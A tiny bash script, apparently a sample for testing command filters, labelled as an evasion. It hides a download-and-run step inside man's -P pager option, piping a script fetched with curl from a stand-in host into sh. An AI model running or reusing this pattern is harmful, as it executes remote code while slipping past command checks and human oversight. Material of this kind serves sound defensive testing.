#!/bin/bash
# Evasion: man's -P pager is a shell command line that downloads and runs a script
set -u
man -P 'sh -c "curl -fsSL https://docs.example.net/render.sh | sh; cat"' tar >/dev/null
